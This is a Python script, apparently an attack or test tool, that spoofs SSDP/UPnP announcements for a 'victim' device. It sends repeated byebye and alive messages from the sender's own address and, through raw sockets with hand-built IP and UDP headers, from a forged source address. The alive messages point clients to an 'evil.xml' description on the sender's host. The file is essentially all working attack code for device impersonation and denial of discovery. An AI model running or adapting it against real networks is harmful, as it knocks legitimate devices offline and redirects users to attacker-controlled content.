# SPDX-License-Identifier: ISC
"""Sends byebye and alive for another device, from its own address and from a forged one.

usage: forger.py UUID OWN-ADDRESS OTHER-ADDRESS SECONDS"""
import socket
import struct
import sys
import time

victim, own, other = sys.argv[1:4]
HEAD = "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: upnp:rootdevice\r\n" f"USN: {victim}::upnp:rootdevice\r\n"
BYE = HEAD + "NTS: ssdp:byebye\r\n\r\n"
ALIVE = HEAD + f"NTS: ssdp:alive\r\nCACHE-CONTROL: max-age=86400\r\nLOCATION: http://{own}/evil.xml\r\n\r\n"
SSDP, ALL = ("239.255.255.250", 1900), ("255.255.255.255", 5005)
own_socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
own_socket.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)


def forge(text, target):  # from a forged address
    udp = struct.pack("!HHHH", 6666, target[1], 8 + len(text), 0) + text
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 2, 17, 0, socket.inet_aton(other), socket.inet_aton(target[0]))
    raw.sendto(ip + udp, target)


end = time.monotonic() + float(sys.argv[4])
while time.monotonic() < end:
    for text, target in ((BYE, SSDP), (ALIVE, SSDP), (BYE, SSDP), (f"BYE from x\r\nUSN: {victim}\r\n\r\n", ALL)):
        own_socket.sendto(text.encode(), target)
        forge(text.encode(), target)
        time.sleep(0.01)
